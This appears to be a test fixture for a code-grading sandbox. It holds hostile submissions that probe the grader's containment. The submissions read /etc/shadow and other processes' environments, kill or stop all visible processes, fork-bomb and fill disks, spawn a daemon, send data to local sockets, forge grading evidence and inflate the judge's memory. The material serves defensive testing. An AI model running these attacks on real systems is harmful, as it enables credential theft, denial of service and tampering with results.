"""Submissions written as an attacker would, against the grader's containment, one per attack.

Each is built around the exercise 3 stub, so none can pass on its merits; each
prints what it managed (``REPORT <name> <what>``) so a test can see the attack
ran and what it found. ``Targets`` holds what the attacks aim at: listeners,
files outside the scratch folder, a secret in the grader's environment. None of
this imports the grader's child code: a submission sees only what the child
leaves it.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

from grader import exercises
from grader.protocol import limits

STUB = exercises.get("exercise3").stub.read_text(encoding="utf-8")
SOLUTION = exercises.get("exercise3").solution.read_text(encoding="utf-8")

DAEMON_MARK = "3141.592653"  # the daemon's `sleep` argument: how the test finds it if it survived


@dataclass
class Targets:
    """What the attacks aim at, made by a test: listeners, victims, a secret."""

    folder: Path
    secret: str
    udp: socket.socket = field(init=False)
    tcp: socket.socket = field(init=False)
    unix_stream: socket.socket = field(init=False)
    unix_datagram: socket.socket = field(init=False)
    abstract: socket.socket = field(init=False)
    victim: Path = field(init=False)
    sockets: Path = field(init=False)
    results: Path | None = None  # the batch's verdicts.jsonl, when there is one

    def __post_init__(self):
        self.folder.mkdir(parents=True, exist_ok=True)
        os.chmod(self.folder, 0o777)  # only the grader's confinement keeps a submission out, not permissions
        self.udp = _bound(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
        self.tcp = _bound(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
        self.tcp.listen(16)
        # a socket's path has at most 107 bytes: a long temporary folder (pytest --basetemp) holds
        # them in a short folder of their own
        self.sockets = self.folder if len(str(self.folder)) < 80 else Path(tempfile.mkdtemp(prefix="grade-sockets-"))
        os.chmod(self.sockets, 0o777)
        self.unix_stream = _bound(socket.AF_UNIX, socket.SOCK_STREAM, str(self.sockets / "stream.sock"))
        self.unix_stream.listen(16)
        self.unix_datagram = _bound(socket.AF_UNIX, socket.SOCK_DGRAM, str(self.sockets / "datagram.sock"))
        self.abstract = _bound(socket.AF_UNIX, socket.SOCK_DGRAM, "\0grade-hostile-" + self.secret)
        for path in ("stream.sock", "datagram.sock"):
            os.chmod(self.sockets / path, 0o777)
        self.victim = self.folder / "victim.txt"
        self.victim.write_text("untouched", encoding="utf-8")
        os.chmod(self.victim, 0o666)

    def addresses(self) -> dict:
        return {"udp": list(self.udp.getsockname()), "tcp": list(self.tcp.getsockname()),
                "stream": str(self.sockets / "stream.sock"), "datagram": str(self.sockets / "datagram.sock"),
                "abstract": "\0grade-hostile-" + self.secret, "victim": str(self.victim),
                "results": str(self.results) if self.results else None}

    def received(self) -> list[str]:
        """Everything any listener got: connections and messages."""
        got = []
        for name, listener in (("tcp", self.tcp), ("unix stream", self.unix_stream)):
            try:
                connection, _ = listener.accept()
                got.append(f"{name}: a connection")
                connection.close()
            except BlockingIOError:
                pass
        for name, listener in (("udp", self.udp), ("unix datagram", self.unix_datagram),
                               ("abstract", self.abstract)):
            try:
                got.append(f"{name}: {listener.recv(1000)!r}")
            except BlockingIOError:
                pass
        return got

    def close(self) -> None:
        for listener in (self.udp, self.tcp, self.unix_stream, self.unix_datagram, self.abstract):
            listener.close()
        if self.sockets != self.folder:
            shutil.rmtree(self.sockets, ignore_errors=True)


def _bound(family, kind, address) -> socket.socket:
    listener = socket.socket(family, kind)
    listener.bind(address)
    listener.setblocking(False)
    return listener


def _attack(body: str, targets: Targets, base: str = STUB) -> str:
    """``body`` runs at import, with TARGETS (the addresses) and report(); then the stub follows
    (or ``base``: the attacks on the judge ride on a correct encoder, whose evidence is otherwise real)."""
    prologue = (
        "import json as _json, os, sys\n"
        f"TARGETS = _json.loads({json.dumps(json.dumps(targets.addresses()))})\n"
        "def report(name, what):\n"
        "    print('REPORT', name, what, flush=True)\n"
    )
    return prologue + body + "\n" + base


def sources(targets: Targets) -> dict[str, str]:
    """{name: source} of every hostile submission, aimed at ``targets``."""
    found = {name: _attack(body, targets) for name, body in ATTACKS.items()}
    found.update({name: _attack(body, targets, SOLUTION) + BOMB if name in BOMBS
                  else _attack(body, targets, SOLUTION) if name in DECLARED_BOMBS else _attack(body, targets)
                  for name, body in JUDGE_ATTACKS.items()})
    return found


ATTACKS = {
    # Looks for a helper to talk to: inherited descriptors, sockets listed in /proc/net/unix, the
    # multiprocessing fork server and resource tracker; uses whatever it finds.
    "uses_any_helper": r'''
import socket, stat
for fd in range(3, 1024):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    report("helper", f"fd {fd} {os.readlink(f'/proc/self/fd/{fd}')}")
    if stat.S_ISSOCK(mode):
        try:
            socket.socket(fileno=os.dup(fd)).send(b"hello")
            report("helper", f"sent on inherited socket {fd}")
        except OSError as exc:
            report("helper", f"inherited socket {fd}: {exc}")
paths = []
try:
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8:
            paths.append(parts[7])
except OSError as exc:
    report("helper", f"/proc/net/unix: {exc}")
report("helper", f"{len(paths)} unix sockets listed")
for path in paths:
    address = "\0" + path[1:] if path.startswith("@") else path
    try:
        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        client.connect(address)
        client.sendall(b"\x80\x04K\x00.")
        report("helper", f"connected to {path!r}")
    except OSError as exc:
        report("helper", f"{path!r}: {exc}")
try:
    import multiprocessing.forkserver as fs, multiprocessing.resource_tracker as rt
    report("helper", f"fork server address {fs._forkserver._forkserver_address!r}")
    rt.register(TARGETS["victim"], "shared_memory")
    rt.register("/" + os.path.basename(TARGETS["victim"]), "shared_memory")
    report("helper", "registered the victim with a resource tracker")
except Exception as exc:
    report("helper", f"multiprocessing: {type(exc).__name__}: {exc}")
''',
    # Kills or stops every process it can see (its parent included), writes a byte to every pipe
    # it inherited (a fork server's "alive" pipe), and stops everything it may signal (-1).
    "kills_and_stalls_the_forker": r'''
import signal
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid != os.getpid():
            try:
                os.kill(pid, sig)
                report("kill", f"sent {sig.name} to {pid}")
            except OSError as exc:
                report("kill", f"{sig.name} to {pid}: {exc.strerror}")
try:
    os.kill(-1, signal.SIGSTOP)
    report("kill", "sent SIGSTOP to -1")
except OSError as exc:
    report("kill", f"SIGSTOP to -1: {exc.strerror}")
for fd in range(3, 1024):
    try:
        os.write(fd, b"x")
        report("kill", f"wrote to {fd}")
    except OSError:
        pass
''',
    # Forged evidence straight on the evidence pipe, then leaves before the real records.
    "error_of_the_wrong_type": r'''
os.write(3, b'{"event":"end","phase":"load","ok":false,"data":{},"error":{"type":["X"],"message":5}}\n')
os._exit(0)
''',
    "error_frames_of_the_wrong_type": r'''
os.write(3, b'{"event":"end","phase":"load","ok":false,"data":{},"error":{"type":"X","message":"m",'
            b'"student_frames":[{"code":"c","function":"f","line":{"x":1}}],"lineno":"one"}}\n')
os._exit(0)
''',
    "load_data_of_the_wrong_type": r'''
os.write(3, b'{"event":"end","phase":"load","ok":true,"data":{"class_found":false,"defined_names":[1,2]},'
            b'"error":null}\n')
os._exit(0)
''',
    "deeply_nested_evidence": r'''
os.write(3, b'{"event":"end","phase":"load","ok":true,"error":null,"data":' + b"[" * 200000 + b"]" * 200000 + b"}\n")
os._exit(0)
''',
    "cyclic_trace": r'''
load = {"class_name": "TransformerEncoder", "class_found": True, "is_class": True, "is_callable": True,
        "is_layer_subclass": True, "bases": [], "defined_names": ["TransformerEncoder"], "signature_error": None}
events = [{"index": 0, "class": "Dense", "layer": 0, "parent": 1}, {"index": 1, "class": "Dense", "layer": 0, "parent": 0}]
for record in ({"event": "end", "phase": "load", "ok": True, "data": load, "error": None},
               {"event": "start", "phase": "forward"},
               {"event": "end", "phase": "forward", "ok": True, "error": None,
                "data": {"observation": {"trace": events}, "layers": {"0": {"class": "Dense"}}}},
               {"event": "done"}):
    os.write(3, (_json.dumps(record) + "\n").encode())
os._exit(0)
''',
    # Dies by a signal no table names.
    "real_time_signal": r'''
import signal
os.kill(os.getpid(), signal.SIGRTMIN + 5)
''',
    # A double-forked daemon in its own session, holding 4 x 200 MB of files open, then running on.
    "daemon_holding_files": r'''
import time
if os.fork() == 0:
    try:
        os.setsid()
    except OSError:
        pass  # refused: a daemon in the grading's own session, then
    if os.fork() == 0:
        handles = []
        for index in range(4):
            for folder in (os.getcwd(), "/tmp", "/dev/shm", os.path.dirname(TARGETS["victim"])):
                try:
                    handle = open(os.path.join(folder, f"hold-{os.getpid()}-{index}"), "wb")
                except OSError:
                    continue
                try:
                    for _ in range(200):
                        handle.write(b"\0" * (1 << 20))
                except OSError:
                    pass
                handle.flush()
                handles.append(handle)
        os.execv("/bin/sleep", ["sleep", "%s"])
    os._exit(0)
os.wait()
time.sleep(1)
report("daemon", "started")
''' % DAEMON_MARK,
    # Messages to listeners on the machine, by every kind of socket.
    "sends_udp_and_unix_messages": r'''
import socket
def attempt(name, family, kind, address):
    try:
        client = socket.socket(family, kind)
        if kind == socket.SOCK_STREAM:
            client.connect(address)
            client.sendall(b"exfiltrated")
        else:
            client.sendto(b"exfiltrated", address)
        report("socket", f"{name}: sent")
    except OSError as exc:
        report("socket", f"{name}: {exc}")
attempt("udp", socket.AF_INET, socket.SOCK_DGRAM, tuple(TARGETS["udp"]))
attempt("tcp", socket.AF_INET, socket.SOCK_STREAM, tuple(TARGETS["tcp"]))
attempt("unix stream", socket.AF_UNIX, socket.SOCK_STREAM, TARGETS["stream"])
attempt("unix datagram", socket.AF_UNIX, socket.SOCK_DGRAM, TARGETS["datagram"])
attempt("abstract", socket.AF_UNIX, socket.SOCK_DGRAM, TARGETS["abstract"])
''',
    # Reads the environment and command line of every process it can see, its parent's first.
    "reads_the_parents_proc": r'''
visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
report("proc", f"pids {visible}")
for pid in [os.getppid()] + visible:
    for name in ("environ", "cmdline"):
        try:
            report("proc", f"{pid} {name} {open(f'/proc/{pid}/{name}', 'rb').read()[:4000]!r}")
        except OSError as exc:
            report("proc", f"{pid} {name}: {exc.strerror}")
report("proc", f"own environment {sorted(os.environ)}")
''',
    # Root-only files, capabilities, and writes outside the scratch folder: the victim, the results.
    "reads_root_files_and_writes_outside": r'''
try:
    report("root", "shadow " + open("/etc/shadow").read()[:200])
except OSError as exc:
    report("root", f"shadow: {exc.strerror}")
report("root", f"uid {os.getuid()} euid {os.geteuid()} " + [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].strip())
for path in [TARGETS["victim"], TARGETS["results"], "/tmp/grade-hostile-planted"]:
    if path:
        try:
            with open(path, "a") as handle:
                handle.write('{"status": "passed"}\n')
            report("write", f"wrote {path}")
        except OSError as exc:
            report("write", f"{path}: {exc.strerror}")
''',
    # As many processes as it can get, each holding on; as many bytes as it can write.
    "forks_and_writes_without_end": r'''
import time
children = 0
for _ in range(400):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(3600)
        os._exit(0)
    children += 1
report("limits", f"processes {children}")
written = 0
try:
    for index in range(8):
        with open(f"big-{index}", "wb") as handle:
            for _ in range(100):
                handle.write(b"\0" * (1 << 20))
                written += 1 << 20
except OSError as exc:
    report("limits", f"writing stopped: {exc.strerror}")
report("limits", f"bytes {written}")
''',
}


# Attacks on whoever reads the evidence and on the grading's share of the machine. The bombs ride on
# the correct encoder (its evidence otherwise real): the grader must give each a verdict as soon as
# any other, spending only its own grading's memory and time.
JUDGE_ATTACKS = {
    # an attention whose claimed inputs and mask would broadcast to 8e12 booleans in the reader
    "mask_reduction_bomb": "LENGTH, MASK_SHAPE = 20000, (1, 20000, 1, 1)\n",
    # a heads axis far larger than any layer of the exercise has, broadcast against the scores (the mask
    # itself as large as one array may be, so that it reaches the judge)
    "heads_axis_bomb": f"LENGTH, MASK_SHAPE = 40, (1, {limits.MAX_ARRAY_ELEMENTS // (40 * 40)}, 40, 40)\n",
    # a five-dimensional mask, through the identification of layers by their roles
    "five_dimensional_mask": "LENGTH, MASK_SHAPE = 40, (1, 2, 40, 40, 40)\n",
    # memory held by a file with no path, beyond every process's address space
    "memfd_hoard": r"""
LENGTH, MASK_SHAPE = 0, None
try:
    hoard = os.memfd_create("hoard")
    for _ in range(512):
        os.write(hoard, b"\0" * (1 << 20))
    report("memfd", f"held {os.fstat(hoard).st_size}")
except OSError as exc:
    report("memfd", f"refused: {exc.strerror}")
""",
    # the checks, the replay and the NumPy references, read to be carried out in the output
    "reads_the_checks": r"""
LENGTH, MASK_SHAPE = 0, None
import grader, pathlib
_base = pathlib.Path(grader.__file__).resolve().parent
for _relative in ("judge/reference.py", "exercises/exercise3/checks.py", "judge/replay.py", "judging/judgment.py"):
    try:
        report("checks", f"read {_relative} ({len((_base / _relative).read_text())} characters)")
    except OSError as exc:
        report("checks", f"{_relative}: {exc.strerror}")
""",
    # as many spinning processes as it may start, each trying for a session of its own, while it waits
    "spins_in_many_sessions": r"""
LENGTH, MASK_SHAPE = 0, None
import time as _time
_spinners = 0
for _ in range(200):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            os.setsid()
            print("REPORT spin session", flush=True)
        except OSError:
            pass
        _end = _time.time() + 300
        while _time.time() < _end:
            pass
        os._exit(0)
    _spinners += 1
report("spin", f"spinners {_spinners}")
_time.sleep(15)
""",
}

# Weights declared with a shape of the attacker's: the report of the layer's variables says one of
# them has (K, 1, 1, 1) values, K the most one array may hold (grader.protocol.limits), so the grader
# draws that many, and a replay that broadcast them against the activations would make K times the
# activations in the judge. The layer itself keeps its own weight (the value the grader sends for it
# is cut back to its shape before it is set).
DECLARED = r"""
LENGTH, MASK_SHAPE = 0, None
import numpy as _np
from grader.probe.evidence_stream import EvidenceStream as _Stream
_real = {}
_emit, _receive = _Stream.emit, _Stream.receive


def _declaring(self, record):
    if record.get("event") == "end" and record.get("phase") == "variables" and record.get("ok"):
        for variable in record["data"]["variables"]:
            if variable["path"].endswith(SUFFIX) and variable["shape"] == SHAPE and not _real:
                _real[str(variable["id"])] = list(variable["shape"])
                variable["shape"] = [DECLARED_VALUES, 1, 1, 1]
    return _emit(self, record)


def _receiving(self):
    secrets = _receive(self)
    for key, shape in _real.items():
        if isinstance(secrets, dict) and key in (secrets.get("values") or {}):
            secrets["values"][key] = _np.zeros(shape, dtype="float32")
    return secrets


_Stream.emit, _Stream.receive = _declaring, _receiving
""".replace("DECLARED_VALUES", str(limits.MAX_ARRAY_ELEMENTS))
JUDGE_ATTACKS.update({
    # a Dense bias, added to the activations of the feed-forward step
    "declared_bias_bomb": 'SUFFIX, SHAPE = "bias", [16]\n' + DECLARED,
    # a LayerNormalization's gamma, multiplied with the normalised activations
    "declared_gamma_bomb": 'SUFFIX, SHAPE = "gamma", [8]\n' + DECLARED,
    # the attention's query kernel, projecting every position
    "declared_kernel_bomb": 'SUFFIX, SHAPE = "query/kernel", [8, 2, 8]\n' + DECLARED,
})

BOMBS = ("mask_reduction_bomb", "heads_axis_bomb", "five_dimensional_mask")
DECLARED_BOMBS = ("declared_bias_bomb", "declared_gamma_bomb", "declared_kernel_bomb")

# After the correct encoder: a masked call also runs a cheap attention of the attacker's on a dummy
# of LENGTH positions with a mask of MASK_SHAPE (it claims what it was given, and returns at once).
BOMB = '''

import keras as _keras


class _CheapAttention(_keras.layers.MultiHeadAttention):
    def _compute_attention(self, query, key, value, attention_mask=None, training=None,
                           return_attention_scores=False, use_causal_mask=False):
        return query, None


_encoder_call = TransformerEncoder.call


def _call(self, inputs, mask=None, **kwargs):
    output = _encoder_call(self, inputs, mask=mask, **kwargs)
    if LENGTH:
        if not hasattr(self, "_cheap"):  # built with the layer: its weights get the grader's values
            self._cheap = _CheapAttention(num_heads=1, key_dim=1)
            self._cheap.build((1, LENGTH, 1), (1, LENGTH, 1))
        if mask is not None:
            dummy = _keras.ops.ones((1, LENGTH, 1))
            self._cheap(dummy, dummy, attention_mask=_keras.ops.ones(MASK_SHAPE, dtype="bool"))
    return output


TransformerEncoder.call = _call
'''
